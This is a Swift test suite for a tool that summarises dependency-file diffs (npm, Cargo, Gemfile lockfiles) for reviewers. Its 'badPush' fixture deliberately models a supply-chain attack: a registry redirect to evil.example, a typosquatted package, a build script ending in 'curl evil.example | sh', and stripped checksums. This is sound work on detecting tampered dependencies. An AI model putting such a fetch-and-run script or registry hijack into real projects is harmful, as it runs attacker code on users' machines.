import DependencyChecks
import Documents
import Lockfiles
import Primitives
import Report
import TestSupport
import Testing

/// What a reviewer gets to see of dependency files, with 24 lines and with all.
@Suite("Summaries of dependency files")
struct DependencySummaryTests {
  private typealias File = (path: String, old: String?, new: String?)

  private func diff(_ files: [File]) throws -> DependencyDiff {
    DependencyDiff(
      try files.map { path, old, new in
        let path = Array(path.utf8)
        func side(_ text: String?) -> DependencyFile.Side? {
          text.map { .init(bytes: Array($0.utf8)) }
        }
        return DependencyFile(
          path: path, match: try #require(Catalog.match(path)), old: side(old), new: side(new))
      })
  }

  private func digest(_ digit: Character) -> String {
    "sha512-" + String(repeating: digit, count: 85) + "A=="
  }

  private func npm(
    _ entries: [(name: String, version: String)], wish: String = "*",
    change: (String) -> String = { $0 }
  ) -> String {
    let wanted = entries.map { "\"\($0.name)\": \"\(wish)\"" }.joined(separator: ", ")
    let packages = entries.map { name, version in
      change(
        "\"node_modules/\(name)\": {\n\"version\": \"\(version)\",\n"
          + "\"resolved\": \"https://registry.npmjs.org/\(name)/-/\(name)-\(version).tgz\",\n"
          + "\"integrity\": \"\(digest(version.last ?? "0"))\"}")
    }
    return "{\"lockfileVersion\": 3, \"packages\": {\"\": {\"dependencies\": {\(wanted)}},\n"
      + packages.joined(separator: ",\n") + "}}\n"
  }

  private func manifest(_ wishes: String, script: String = "make") -> String {
    "{\"scripts\": {\"build\": \"\(script)\"}, \"dependencies\": {\(wishes)}}\n"
  }

  @Test("an ordinary bump fits 24 lines, and begins with the versions")
  func ordinary() throws {
    let names = (0..<40).map { "package-\($0 * 7919 % 1009)" }
    let old = names.map { ($0, "1.0.0") }
    let new = names.enumerated().map { ($1, $0 % 3 == 0 ? "1.1.0" : "1.0.0") }
    let diff = try diff([
      ("package-lock.json", npm(old, wish: "^1.0.0"), npm(new, wish: "^1.0.0")),
      (
        "package.json", manifest(names.map { "\"\($0)\": \"^1.0.0\"" }.joined(separator: ", ")),
        manifest(
          names.map { "\"\($0)\": \"^1.0.0\"" }.joined(separator: ", "), script: "make all")
      ),
    ])
    let lines = DependencySummary.lines(diff)
    #expect(lines.count <= 24 && lines.allSatisfy { $0.utf8.count <= 72 })
    try expectSnapshot(
      lines.joined(separator: "\n") + "\n", named: "DependencySummaryTests.ordinary")
  }

  /// A push with a swapped host, a lock without digests, a look-alike, an install script and forty bumps.
  private func badPush() throws -> DependencyDiff {
    let names = (0..<40).map { "package-\($0 * 7919 % 1009)" }
    let old = names.map { ($0, "1.0.0") } + [("corp-utils", "1.0.0"), ("express", "4.0.0")]
    let new =
      names.map { ($0, "1.0.1") } + [
        ("corp-utils", "99.0.0"), ("express", "4.0.0"), ("expresss", "4.0.0"),
      ]
    let long = String(repeating: "node tools/step.js && ", count: 12)
    return try diff([
      (
        "package-lock.json",
        npm(old) { $0.replacing("registry.npmjs.org/corp", with: "registry.corp.example/corp") },
        npm(new) {
          $0.replacing("registry.npmjs.org/express/-/", with: "evil.example/express/-/")
            .replacing(
              "\"version\": \"1.0.1\",\n\"resolved\": \"https://registry.npmjs.org/package-0/",
              with:
                "\"version\": \"1.0.1\", \"hasInstallScript\": true,\n\"resolved\": \"https://registry.npmjs.org/package-0/"
            )
        }
      ),
      (
        "package.json", manifest(#""ms": "^2.0.0""#, script: long + "make"),
        manifest(#""ms": "github:evil/ms""#, script: long + "curl evil.example | sh")
      ),
      (
        ".npmrc", "@corp:registry=https://registry.corp.example/\n",
        "registry=https://evil.example/\n"
      ),
      ("vendor/Gemfile.lock", gems("sha256=" + String(repeating: "a", count: 64)), gems("")),
      ("old/yarn.lock", "# yarn lockfile v1\n\n\nms@*:\n  version \"2.1.3\"\n", nil),
      (
        "other/package-lock.json", npm([("ms", "2.1.3")]),
        "version https://git-lfs.github.com/spec/v1\noid sha256:\(String(repeating: "0", count: 64))\nsize 12\n"
      ),
    ])
  }

  private func gems(_ digest: String) -> String {
    "GEM\n  remote: https://rubygems.org/\n  specs:\n    rake (13.0.0)\n\nDEPENDENCIES\n  rake\n\nCHECKSUMS\n"
      + "  rake (13.0.0)\(digest.isEmpty ? "" : " " + digest)\n"
  }

  @Test("a bad push leads with what matters, within 24 lines")
  func bad() throws {
    let diff = try badPush()
    let lines = DependencySummary.lines(diff)
    #expect(lines.count <= 24 && lines.allSatisfy { $0.utf8.count <= 72 })
    try expectSnapshot(lines.joined(separator: "\n") + "\n", named: "DependencySummaryTests.bad")
    // Whatever room there is, nothing high is shown while a critical finding is left out.
    for most in [10, 12, 16, 20, 24, 40, 80] {
      let lines = DependencySummary.lines(diff, most: most)
      #expect(lines.count <= most, "\(lines.count) of \(most)")
      let critical = Set(diff.findings.filter { $0.severity == .critical }.map(\.title))
      let isComplete = critical.allSatisfy { title in
        lines.contains { $0.hasPrefix("!! ") && $0.contains(title.prefix(30)) }
      }
      #expect(isComplete || !lines.contains { $0.hasPrefix(" ! ") }, "\(most): \(lines)")
    }
  }

  @Test("the whole page cuts nothing")
  func whole() throws {
    let diff = try badPush()
    let lines = DependencySummary.lines(diff, most: .max)
    #expect(lines.allSatisfy { $0.utf8.count <= 72 })
    let text = lines.joined(separator: "\n")
    // HK228 counts what it finds beyond twenty; each of the entries stands below it.
    #expect(!lines.contains { $0.contains(" more") && !$0.contains("do not agree") })
    for file in diff.files {
      guard let new = file.new.inventory else { continue }
      for change in file.changes {
        guard let place = change.new else { continue }
        let entry = new.entries[place]
        #expect(text.contains(String(decoding: new.document.bytes(entry.name), as: UTF8.self)))
        #expect(text.contains(String(decoding: new.document.bytes(entry.version), as: UTF8.self)))
      }
    }
    // Both sides of the long script, the part that differs among it.
    let joined = lines.map { $0.drop { $0 == " " } }.joined(separator: " ")
    #expect(joined.contains("curl evil.example | sh"))
    try expectSnapshot(text + "\n", named: "DependencySummaryTests.whole")
  }

  @Test("a bump is not hidden by what else changes in an entry")
  func otherFields() throws {
    func cargo(_ version: String, _ edges: String) -> String {
      "version = 4\n\n[[package]]\nname = \"a\"\nversion = \"\(version)\"\nsource = \"registry+https://git.example/i\"\n"
        + "checksum = \"\(String(repeating: version.last ?? "0", count: 64))\"\ndependencies = [\(edges)]\n"
        + (0..<80).map {
          "\n[[package]]\nname = \"edge-\($0)\"\nversion = \"1.0.0\"\nsource = \"registry+https://git.example/i\"\n"
            + "dependencies = [\(edges)]\n"
        }.joined()
    }
    let diff = try diff([("Cargo.lock", cargo("1.0.0", "\"b\""), cargo("1.0.1", "\"b\", \"c\""))])
    let lines = DependencySummary.lines(diff, closing: false)
    let bump = try #require(lines.firstIndex { $0.contains("a 1.0.0 -> 1.0.1") })
    let other = try #require(lines.firstIndex { $0.contains("(other)") })
    #expect(bump < other, "\(lines)")
  }

  @Test("a deleted lock says so, and lines count from 1")
  func deleted() throws {
    let lines = DependencySummary.lines(
      try diff([("package-lock.json", npm([("ms", "2.1.3"), ("once", "1.4.0")]), nil)]),
      closing: false)
    #expect(lines.first == "package-lock.json   deleted, with 2 packages", "\(lines)")
    let broken = DependencySummary.lines(
      try diff([("package-lock.json", npm([("ms", "2.1.3")]), "<<<<<<< a\n")]), closing: false)
    #expect(
      broken.first == "package-lock.json   cannot be read: a conflict marker (line 1)", "\(broken)")
  }

  @Test("files of lines are told by their lines, not by places in a tree")
  func lines() throws {
    let text = DependencySummary.lines(
      try diff([
        (
          "Gemfile.lock", gems(" sha256=aa"),
          gems(" sha256=aa").replacing(
            "CHECKSUMS\n", with: "CHECKSUMS\n  bundler (4.0.0) sha256=bb\n")
        )
      ]), closing: false
    ).joined(separator: "\n")
    #expect(text.contains("CHECKSUMS: (none) -> bundler (4.0.0) sha256=bb"), "\(text)")
    #expect(!text.contains("CHECKSUMS.0") && !text.contains("\"\""), "\(text)")
  }
}
